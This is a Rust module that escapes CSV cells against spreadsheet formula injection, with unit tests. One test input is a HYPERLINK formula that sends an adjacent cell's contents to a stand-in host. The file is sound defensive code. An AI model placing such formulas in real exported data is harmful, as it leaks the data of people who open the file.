//! Texts that strangers chose, in files that people open in a spreadsheet.

use std::borrow::Cow;

/// A text as a cell of a CSV file: a spreadsheet takes one that begins with `=`, `+`, `-`, `@`, a tab or a carriage return for a formula,
/// which may send away what stands beside it, so such a text gets an apostrophe before it (OWASP, *CSV Injection*). Only for texts: an
/// amount may begin with a minus, and means it.
#[must_use]
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_is_never_a_formula() {
        for formula in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "=HYPERLINK(\"http://x\"&B2)",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for text in ["", "Médiathèque", "a=b", " -", "10-12 ans", "'=1", "Côte-d'Or"] {
            assert!(matches!(cell(text), Cow::Borrowed(same) if same == text), "{text}");
        }
    }
}
